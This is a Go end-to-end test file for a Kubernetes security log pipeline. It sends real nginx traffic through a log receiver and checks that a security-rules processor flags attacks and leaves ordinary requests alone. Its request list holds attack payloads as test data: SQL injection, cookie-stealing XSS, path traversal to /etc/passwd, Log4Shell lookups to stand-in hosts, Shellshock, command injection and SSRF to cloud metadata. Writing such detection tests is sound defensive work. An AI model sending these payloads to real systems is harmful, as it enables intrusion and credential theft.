package ingresslogreceiver

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"go.opentelemetry.io/collector/component/componenttest"
	"go.opentelemetry.io/collector/consumer/consumertest"
	"go.opentelemetry.io/collector/pdata/pcommon"
	"go.opentelemetry.io/collector/pdata/pmetric"
	"go.opentelemetry.io/collector/processor/processortest"

	"github.com/otelcol-k8ssec/otelcol-k8ssec/processor/securityrulesprocessor"
)

// e2eRequest is one request the test sends through nginx, and the rule it
// must raise ("" for ordinary traffic, which must raise none). Its id goes
// out as X-Request-ID, which nginx logs as $req_id; a request nginx refuses
// before reading its headers is logged with nginx's own id, and the test
// knows it by its path instead (byPath).
type e2eRequest struct {
	id, method, target, userAgent string
	body                          []byte
	rule                          string
	byPath                        bool
}

// key is how the test finds the request's records.
func (r e2eRequest) key() string {
	if r.byPath {
		return r.target
	}
	return r.id
}

const browser = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"

func e2eRequests() []e2eRequest {
	reqs := []e2eRequest{
		{id: "ok-home", method: "GET", target: "/", userAgent: browser},
		{id: "ok-search", method: "GET", target: "/products?q=running+shoes&page=2", userAgent: browser},
		{id: "ok-apostrophe", method: "GET", target: "/search?q=o%27reilly+or+packt", userAgent: browser},
		{id: "ok-order", method: "POST", target: "/api/orders", userAgent: browser, body: []byte(`{"sku":"A-1","qty":2}`)},
		{id: "ok-asset", method: "GET", target: "/static/app.3f2a.js", userAgent: browser},
		{id: "ok-probe", method: "HEAD", target: "/healthz", userAgent: "kube-probe/1.31"},
		{id: "ok-preflight", method: "OPTIONS", target: "/api/orders", userAgent: browser},
		{id: "ok-upload", method: "PUT", target: "/api/avatar", userAgent: "curl/8.5.0", body: bytes.Repeat([]byte("a"), 1<<20)},

		{id: "sqli", method: "GET", target: "/products?id=1%20UNION%20SELECT%20password%20FROM%20users--", userAgent: "curl/8.5.0", rule: "SQL injection attempt"},
		{id: "xss", method: "GET", target: "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E", userAgent: browser, rule: "Cross-site scripting attempt"},
		{id: "traversal", method: "GET", target: "/static/../../../../etc/passwd", userAgent: "curl/8.5.0", rule: "Path traversal attempt", byPath: true},
		{id: "traversal-double", method: "GET", target: "/static/%252e%252e/%252e%252e/app/config.yaml", userAgent: "curl/8.5.0", rule: "Path traversal attempt"},
		{id: "log4shell-ua", method: "GET", target: "/", userAgent: "${jndi:ldap://203.0.113.7:1389/Exploit}", rule: "Log4Shell JNDI lookup attempt"},
		{id: "log4shell-query", method: "GET", target: "/api?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D", userAgent: "curl/8.5.0", rule: "Log4Shell JNDI lookup attempt"},
		{id: "cmdi", method: "GET", target: "/ping?host=127.0.0.1%3Bcat%20%2Fetc%2Fhosts", userAgent: "curl/8.5.0", rule: "Command injection attempt"},
		{id: "shellshock", method: "GET", target: "/cgi-bin/status", userAgent: "() { :; }; /bin/bash -c 'id'", rule: "Shellshock attempt"},
		{id: "ssrf-aws", method: "GET", target: "/fetch?url=http%3A%2F%2F169.254.169.254%2Flatest%2Fmeta-data%2Fiam%2F", userAgent: "curl/8.5.0", rule: "SSRF to cloud metadata"},
		{id: "ssrf-gcp", method: "GET", target: "/preview?src=http://metadata.google.internal/computeMetadata/v1/", userAgent: "curl/8.5.0", rule: "SSRF to cloud metadata"},
		{id: "probe-env", method: "GET", target: "/.env", userAgent: "curl/8.5.0", rule: "Sensitive file probed"},
		{id: "probe-git", method: "GET", target: "/.git/config", userAgent: "curl/8.5.0", rule: "Sensitive file probed"},
		{id: "scanner-sqlmap", method: "GET", target: "/", userAgent: "sqlmap/1.7.2#stable (https://sqlmap.org)", rule: "Scanner user agent"},
		{id: "scanner-nuclei", method: "GET", target: "/", userAgent: "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)", rule: "Scanner user agent"},
		{id: "method-trace", method: "TRACE", target: "/", userAgent: "curl/8.5.0", rule: "Unusual HTTP method"},
		{id: "method-propfind", method: "PROPFIND", target: "/", userAgent: "curl/8.5.0", rule: "Unusual HTTP method"},
		{id: "oversized", method: "POST", target: "/api/upload", userAgent: "curl/8.5.0", body: bytes.Repeat([]byte("b"), 11<<20), rule: "Oversized request"},
	}
	// Bursts: the threshold alert comes with the twentieth request.
	for i := range 20 {
		r := e2eRequest{id: fmt.Sprintf("brute-%02d", i), method: "POST", target: "/login", userAgent: browser}
		if i == 19 {
			r.rule = "Brute force from one address"
		}
		reqs = append(reqs, r)
	}
	for i := range 20 {
		r := e2eRequest{id: fmt.Sprintf("fail-%02d", i), method: "GET", target: "/fail", userAgent: browser}
		if i == 19 {
			r.rule = "Burst of server errors on one service"
		}
		reqs = append(reqs, r)
	}
	return reqs
}

// shopBackend answers like a small shop: 401 for logins, 500 for /fail,
// 200 for everything else, after reading the whole body.
func shopBackend() http.Handler {
	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		_, _ = io.Copy(io.Discard, r.Body)
		switch r.URL.Path {
		case "/login":
			w.WriteHeader(http.StatusUnauthorized)
		case "/fail":
			w.WriteHeader(http.StatusInternalServerError)
		default:
			_, _ = io.WriteString(w, "ok\n")
		}
	})
}

// A real nginx, configured as ingress-nginx, in front of a real backend: its
// access log read by the ingress_log receiver, the records run through the
// security_rules processor with the ingress pack. Every attack raises its
// rule, ordinary traffic raises nothing, and the records and RED metrics say
// what nginx did.
func TestNginxEndToEnd(t *testing.T) {
	backend := httptest.NewServer(shopBackend())
	t.Cleanup(backend.Close)
	upstream := strings.TrimPrefix(backend.URL, "http://")
	addr, accessLog := startNginx(t, upstream)

	out := new(consumertest.LogsSink)
	metrics := new(consumertest.MetricsSink)
	pf := securityrulesprocessor.NewFactory()
	pcfg := pf.CreateDefaultConfig().(*securityrulesprocessor.Config)
	pcfg.Rules = []string{"ingress"}
	pcfg.ReloadInterval = 0
	// One nginx writes its log in order: thresholds need not wait out a reorder
	// window here (the processor's own tests cover event-time reordering).
	pcfg.ReorderWindow = 0
	require.NoError(t, pcfg.Validate())
	proc, err := pf.CreateLogs(context.Background(), processortest.NewNopSettings(pf.Type()), pcfg, out)
	require.NoError(t, err)
	require.NoError(t, proc.Start(context.Background(), componenttest.NewNopHost()))
	t.Cleanup(func() { require.NoError(t, proc.Shutdown(context.Background())) })
	startReceiverInto(t, accessLog, nil, proc, metrics)

	reqs := e2eRequests()
	status := map[string]int{}
	classes := map[string]int64{}
	for i, r := range reqs {
		// Each attack from its own client: the pack throttles per client,
		// and this test wants each one's alert. Bursts share one.
		from := ""
		if r.rule != "" && !strings.HasPrefix(r.id, "brute") && !strings.HasPrefix(r.id, "fail") {
			from = fmt.Sprintf("127.0.1.%d", i+1)
		}
		h := []string{"X-Request-ID: " + r.id}
		if r.userAgent != "" {
			h = append(h, "User-Agent: "+r.userAgent)
		}
		code := sendRaw(t, addr, from, r.method, r.target, h, r.body)
		status[r.id] = code
		classes[fmt.Sprintf("%dxx", code/100)]++
	}
	assert.Equal(t, 200, status["ok-home"])
	assert.Equal(t, 401, status["brute-00"])
	assert.Equal(t, 500, status["fail-00"])

	// Records: one per request, with what nginx logged.
	var events map[string]rec
	var alerts []rec
	require.Eventually(t, func() bool {
		events, alerts = splitAlerts(records(out), reqs)
		return len(events) == len(reqs)
	}, 20*time.Second, 10*time.Millisecond, "one http.access record per request")
	for _, r := range reqs {
		require.Contains(t, events, r.key())
		assert.Equal(t, int64(status[r.id]), events[r.key()].Attributes().AsRaw()["http.response.status_code"], r.id)
		assert.Equal(t, r.method, str(events[r.key()].Attributes(), "http.request.method"), r.id)
	}
	search := events["ok-search"].Attributes().AsRaw()
	for k, v := range map[string]any{
		"client.address": "127.0.0.1", "http.request.method": "GET", "url.path": "/products", "url.query": "q=running+shoes&page=2",
		"network.protocol.version": "1.1", "http.response.status_code": int64(200), "http.response.body.size": int64(3),
		"user_agent.original": browser, "k8ssec.upstream.name": "shop-web-8080", "k8ssec.upstream.address": upstream,
		"k8ssec.upstream.status_code": int64(200), "k8ssec.upstream.response.size": int64(3), "k8ssec.http.request.id": "ok-search",
		"k8s.namespace.name": "shop", "k8s.service.name": "web", "k8s.service.port": "8080",
	} {
		assert.Equal(t, v, search[k], k)
	}
	assert.Greater(t, search["http.request.size"], int64(100), "request line and headers")
	assert.GreaterOrEqual(t, search["http.server.request.duration"], 0.0)
	assert.Greater(t, events["oversized"].Attributes().AsRaw()["http.request.size"], int64(11<<20))
	assert.Equal(t, "${jndi:ldap://203.0.113.7:1389/Exploit}", str(events["log4shell-ua"].Attributes(), "user_agent.original"))
	assert.Equal(t, int64(400), events["/static/../../../../etc/passwd"].Attributes().AsRaw()["http.response.status_code"],
		"nginx refuses to climb above its root, and logs the target as sent")

	// Alerts: each attack raises its rule; ordinary requests raise none.
	raised := map[string][]string{}
	for _, a := range alerts {
		k := recordKey(a.Attributes(), reqs)
		raised[k] = append(raised[k], str(a.Attributes(), "security_rule.name"))
	}
	for _, r := range reqs {
		if r.rule == "" {
			assert.Empty(t, raised[r.key()], "%s is ordinary traffic", r.id)
			continue
		}
		assert.Contains(t, raised[r.key()], r.rule, r.id)
	}
	for k := range raised {
		assert.True(t, slices.ContainsFunc(reqs, func(r e2eRequest) bool { return r.key() == k && r.rule != "" }),
			"an alert for %s, which is not an attack", k)
	}
	assert.Equal(t, []string{"Brute force from one address"}, raised["brute-19"])
	assert.Equal(t, []string{"Burst of server errors on one service"}, raised["fail-19"])

	// RED metrics: the cumulative counts by status class match what nginx
	// answered, and every request was timed.
	var got map[string]int64
	var timed uint64
	require.Eventually(t, func() bool {
		got, timed = redTotals(metrics)
		return timed == uint64(len(reqs))
	}, 10*time.Second, 10*time.Millisecond, "every request in the duration histogram")
	assert.Equal(t, classes, got)
}

// splitAlerts returns the access records by request key, and the alerts.
func splitAlerts(all []rec, reqs []e2eRequest) (map[string]rec, []rec) {
	events := map[string]rec{}
	var alerts []rec
	for _, r := range all {
		if r.EventName() == "security.alert" {
			alerts = append(alerts, r)
			continue
		}
		events[recordKey(r.Attributes(), reqs)] = r
	}
	return events, alerts
}

// recordKey is the request id the record carries, or its path when nginx
// logged an id of its own.
func recordKey(attrs pcommon.Map, reqs []e2eRequest) string {
	id := str(attrs, "k8ssec.http.request.id")
	for _, r := range reqs {
		if r.id == id {
			return id
		}
	}
	return str(attrs, "url.path")
}

// redTotals sums the latest cumulative metrics: requests by status class and
// the duration histogram's count.
func redTotals(s *consumertest.MetricsSink) (map[string]int64, uint64) {
	all := s.AllMetrics()
	if len(all) == 0 {
		return nil, 0
	}
	md := all[len(all)-1]
	byClass := map[string]int64{}
	var timed uint64
	forMetric(md, metricRequests, func(m pmetric.Metric) {
		for _, dp := range m.Sum().DataPoints().All() {
			byClass[str(dp.Attributes(), attrStatusClass)] += dp.IntValue()
		}
	})
	forMetric(md, metricDuration, func(m pmetric.Metric) {
		for _, dp := range m.Histogram().DataPoints().All() {
			timed += dp.Count()
		}
	})
	return byClass, timed
}
